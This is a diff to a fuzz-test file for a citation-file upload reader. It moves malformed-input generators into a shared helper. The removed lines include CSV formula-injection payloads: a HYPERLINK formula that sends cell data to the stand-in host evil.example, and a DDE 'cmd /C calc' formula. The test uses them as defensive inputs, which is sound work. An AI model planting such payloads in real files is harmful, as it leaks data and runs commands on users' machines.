@@ -3,6 +3,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { readCitationFile } from '../../../src/server/import/read-citation-file.ts';
 import { ImportError } from '../../../src/server/import/types.ts';
+import { extension, falseUtf16, formatText, invalidUtf8, textExtension, hugeField, withNuls } from '../../helpers/malformed-files.ts';
 import { fixture, scratchDir } from './fixture.helpers.ts';
 
 const scratch = scratchDir();
@@ -13,9 +14,6 @@ const RUNS = 100;
 const SLOW_RUNS = 4;
 /** A reader that takes this long on a few kilobytes has looped or backtracked, which is a hang to a user. */
 const PER_FILE_MS = 5_000;
-
-const TEXT_EXTENSIONS = ['csv', 'tsv', 'txt', 'ris', 'nbib', 'bib', 'xml'] as const;
-const ALL_EXTENSIONS = [...TEXT_EXTENSIONS, 'xlsx', 'xls'] as const;
 
 /**
  * The one promise every upload gets: the reader hands back citations and skipped rows, or refuses with
@@ -40,41 +38,6 @@ async function readsOrRefuses(content: Uint8Array | string, extension: string): 
   }
 }
 
-const extension = fc.constantFrom(...ALL_EXTENSIONS);
-const textExtension = fc.constantFrom(...TEXT_EXTENSIONS);
-
-/** Text made of the pieces each format is built from, in any order, so parsers meet their own syntax half-finished. */
-function tokens(pieces: string[]): fc.Arbitrary<string> {
-  return fc.array(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...pieces) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) }), { maxLength: 120 }).map((parts) => parts.join(''));
-}
-
-const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', '=1+2', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '=cmd|\' /C calc\'!A0', '\t=1'];
-const csvText = tokens(['title', 'abstract', 'year', ',', ';', '\t', '"', '""', '\n', '\r\n', '\r', 'Aspirin', '\u0000', ' ', '\ufeff', ...FORMULAS]);
-const risText = tokens(['TY  - JOUR\n', 'TI  - ', 'T1  - ', 'AB  - ', 'AU  - ', 'PY  - ', 'SP  - ', 'EP  - ', 'ER  - \n', 'ER  -\n', '\n', '\r\n', '  ', 'A title', '2019', '\u0000', ...FORMULAS]);
-const nbibText = tokens(['PMID- 123\n', 'TI  - ', 'AB  - ', 'FAU - ', 'DP  - ', 'LID - 10.1/x [doi]\n', '      ', '\n', '\n\n', 'A title', '\u0000', ...FORMULAS]);
-const bibText = tokens(['@article{', '@string{', '@comment{', '@preamble{', 'key,', 'title', 'author', ' = ', '{', '}', '"', '#', ',', '\\"o', '\\\'{e}', '{\\em ', '\\', ' and ', '\n', '%', '\u0000', ...FORMULAS]);
-const xmlText = tokens([
-  '<?xml version="1.0"?>', '<xml>', '</xml>', '<records>', '</records>', '<record>', '</record>', '<titles>', '</titles>', '<title>', '</title>',
-  '<abstract>', '</abstract>', '<style face="italic">', '</style>', '<![CDATA[', ']]>', '<!--', '-->', '&amp;', '&#xD;', '&#0;', '&#xFFFFFF;', '&bogus;',
-  '<!DOCTYPE x [<!ENTITY e "ee">]>', '&e;', '<', '>', '/', '"', "'", '=', 'A title', '\u0000', ...FORMULAS,
-]);
-const formatText = fc.oneof(csvText, risText, nbibText, bibText, xmlText);
-
-/** Bytes that are not UTF-8: stray continuation bytes, truncated sequences, encoded surrogates, overlongs. */
-const INVALID_UTF8 = [[0x80], [0xc3], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xc0, 0xaf], [0xff], [0xfe]];
-
-/** Text encoded as UTF-8, then invalid bytes spliced in at random places. */
-const invalidUtf8 = fc
-  .tuple(formatText, fc.array(fc.tuple(fc.nat(), fc.constantFrom(...INVALID_UTF8)), { minLength: 1, maxLength: 6 }))
-  .map(([text, splices]) => {
-    const bytes = [...Buffer.from(text, 'utf8')];
-    for (const [at, invalid] of splices) bytes.splice(bytes.length === 0 ? 0 : at % bytes.length, 0, ...invalid);
-    return new Uint8Array(bytes);
-  });
-
-/** A byte-order mark that promises UTF-16, followed by whatever bytes, odd counts included. */
-const falseUtf16 = fc.tuple(fc.constantFrom([0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb, 0xbf]), fc.uint8Array({ maxLength: 400 })).map(([bom, rest]) => new Uint8Array([...bom, ...rest]));
-
 describe('a malformed upload', () => {
   it('of arbitrary bytes under any accepted extension is read or refused with a message', async () => {
     await fc.assert(fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), extension, readsOrRefuses), { seed: SEED, numRuns: RUNS });
@@ -89,11 +52,6 @@ describe('a malformed upload', () => {
   });
 
   it('with NUL bytes among its text is refused as binary or read, never a crash', async () => {
-    const withNuls = fc.tuple(formatText, fc.array(fc.nat(), { minLength: 1, maxLength: 5 })).map(([text, at]) => {
-      const chars = [...text];
-      for (const i of at) chars.splice(chars.length === 0 ? 0 : i % chars.length, 0, '\u0000');
-      return chars.join('');
-    });
     await fc.assert(fc.asyncProperty(withNuls, textExtension, readsOrRefuses), { seed: SEED, numRuns: RUNS });
   });
 
@@ -103,20 +61,7 @@ describe('a malformed upload', () => {
   });
 
   it('with one huge field of 1 to 5 MB is read or refused with a message', { timeout: 60_000 }, async () => {
-    const huge = fc.tuple(fc.integer({ min: 1, max: 5 }), fc.constantFrom('a', '"', 'x,', '\u00e9'), textExtension).map(([mb, char, ext]) => {
-      const field = char.repeat(Math.floor((mb * 1024 * 1024) / Buffer.byteLength(char)));
-      const wrapped = {
-        csv: `title,abstract\n"${field}",b\n`,
-        tsv: `title\tabstract\n${field}\tb\n`,
-        txt: `title,abstract\n${field},b\n`,
-        ris: `TY  - JOUR\nTI  - ${field}\nER  - \n`,
-        nbib: `PMID- 1\nTI  - ${field}\n`,
-        bib: `@article{k, title = {${field}}}`,
-        xml: `<xml><records><record><titles><title>${field}</title></titles></record></records></xml>`,
-      }[ext];
-      return [wrapped, ext] as const;
-    });
-    await fc.assert(fc.asyncProperty(huge, ([content, ext]) => readsOrRefuses(content, ext)), { seed: SEED, numRuns: SLOW_RUNS });
+    await fc.assert(fc.asyncProperty(hugeField, ([content, ext]) => readsOrRefuses(content, ext)), { seed: SEED, numRuns: SLOW_RUNS });
   });
 });
 
